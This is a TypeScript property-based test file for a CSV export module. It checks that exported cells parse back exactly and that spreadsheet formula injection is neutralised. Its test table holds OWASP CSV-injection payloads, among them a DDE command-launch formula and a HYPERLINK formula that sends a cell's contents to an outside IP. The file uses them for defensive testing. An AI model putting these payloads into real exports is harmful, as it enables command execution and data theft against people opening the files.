import fc from "fast-check"
import { describe, expect, it } from "vitest"
import { csvRow, jsonCell, textCell } from "../../../src/serve/exports/csv.ts"
import { recordsFromCsv } from "../../support/strictCsv.ts"

/** Texts of what CSV, spreadsheets and JSON mind, of any length. */
const anyText = fc.oneof(
  fc.string({ unit: "grapheme" }),
  fc.string({
    unit: fc.constantFrom('"', ",", "\r", "\n", "'", "=", "+", "-", "@", "\t", " ", "＝", "\0", "a", "é", "😀")
  })
)

/** What spreadsheets evaluate: OWASP's list, and what they make of it after trimming. */
const isEvaluated = (cell: string): boolean =>
  /^[=+\-@\t\r\n＝＋－＠]/.test(cell) || /^[=+\-@＝＋－＠]/.test(cell.trim())

describe("CSV", () => {
  it("a strict parser reads any texts back, row by row", () => {
    const rows = fc
      .integer({ min: 1, max: 5 })
      .chain((width) => fc.array(fc.array(anyText, { minLength: width, maxLength: width }), { minLength: 1 }))
    fc.assert(
      fc.property(rows, (cells) => {
        expect(recordsFromCsv(cells.map(csvRow).join(""))).toEqual(cells)
      }),
      { numRuns: 2_000 }
    )
  })

  it("no text is evaluated, and without its first quote each is what it was", () => {
    fc.assert(
      fc.property(anyText, (text) => {
        const cell = textCell(text)
        expect(isEvaluated(cell)).toBe(false)
        expect(cell.startsWith("'") ? cell.slice(1) : cell).toBe(text)
      }),
      { numRuns: 5_000 }
    )
  })

  // https://owasp.org/www-community/attacks/CSV_Injection
  it.each([
    ['=1+2";=1+2', '"\'=1+2"";=1+2"\r\n'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0\r\n"],
    ['=HYPERLINK("http://192.0.2.1?x="&A1,"y")', '"\'=HYPERLINK(""http://192.0.2.1?x=""&A1,""y"")"\r\n'],
    ["+1", "'+1\r\n"],
    ["-1", "'-1\r\n"],
    ["@SUM(A1)", "'@SUM(A1)\r\n"],
    ["\t=1", "'\t=1\r\n"],
    [" =1", "' =1\r\n"],
    ["＝1", "'＝1\r\n"],
    ["\0=1", "'\0=1\r\n"],
    ["\u200b\u202e =1", "'\u200b\u202e =1\r\n"],
    ["it's -1", "it's -1\r\n"],
    ["'tis", "''tis\r\n"],
    [" kept ", '" kept "\r\n'],
    ["", "\r\n"]
  ])("%j is the row %j", (text, row) => expect(csvRow([textCell(text)])).toBe(row))

  it.each([
    ["-5", "'-5"],
    [-5, "-5"],
    [1.5, "1.5"],
    [true, "true"],
    [null, ""],
    [undefined, ""],
    [["=a", 1], '["=a",1]'],
    [{ "=a": "b" }, '{"=a":"b"}']
  ])("%j is the cell %j", (value, cell) => expect(jsonCell(value)).toBe(cell))
})
